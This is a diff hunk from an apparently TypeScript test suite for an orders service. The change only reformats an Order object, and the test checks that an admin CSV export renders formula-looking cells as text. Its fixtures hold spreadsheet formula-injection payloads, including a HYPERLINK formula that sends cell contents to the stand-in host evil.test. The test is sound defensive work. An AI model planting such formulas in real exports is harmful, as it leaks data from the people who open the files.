@@ -151,7 +151,15 @@ describe.each(testDatabases({ both: true }))("orders on $name", (database) => {
   it("exports formula-looking cells as text: a wallet login, an e-mail and a sold key", async () => {
     const login = '=HYPERLINK("http://evil.test/?leak="&J3&J4,"Steam login")';
     const email = "=2+5@evil.test";
-    const order: Order = { kind: "wallet", login, email, amountMinor: 50_000, currency: 0, userId: null, lang: "ru" };
+    const order: Order = {
+      kind: "wallet",
+      login,
+      email,
+      amountMinor: 50_000,
+      currency: 0,
+      userId: null,
+      lang: "ru",
+    };
     const invoiceId = `ORD-${tag()}`;
     expect(await notifyOrder(order, await signOrder(order), invoiceId, { email })).toBe(200);
     const csv = await callRoute(ordersCsv as never, `/en/admin/orders.csv?invoice=${invoiceId}`, {
